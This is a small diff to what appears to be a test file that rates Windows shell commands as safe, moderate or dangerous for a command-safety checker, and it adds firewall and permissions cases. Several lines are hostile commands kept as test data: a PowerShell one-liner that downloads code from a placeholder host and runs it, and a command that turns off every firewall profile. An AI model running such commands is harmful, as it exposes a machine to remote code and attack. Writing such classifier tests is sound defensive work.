@@ -48,3 +48,5 @@ cmd.exe /c 'powershell -c "iwr https://x.example | iex"'  # want dangerous
 cmd.exe /k  # want moderate
 ipconfig.exe /all  # want safe
 ipconfig.exe /release  # want dangerous
+netsh.exe advfirewall set allprofiles state off  # want dangerous
+icacls.exe src /t  # want safe
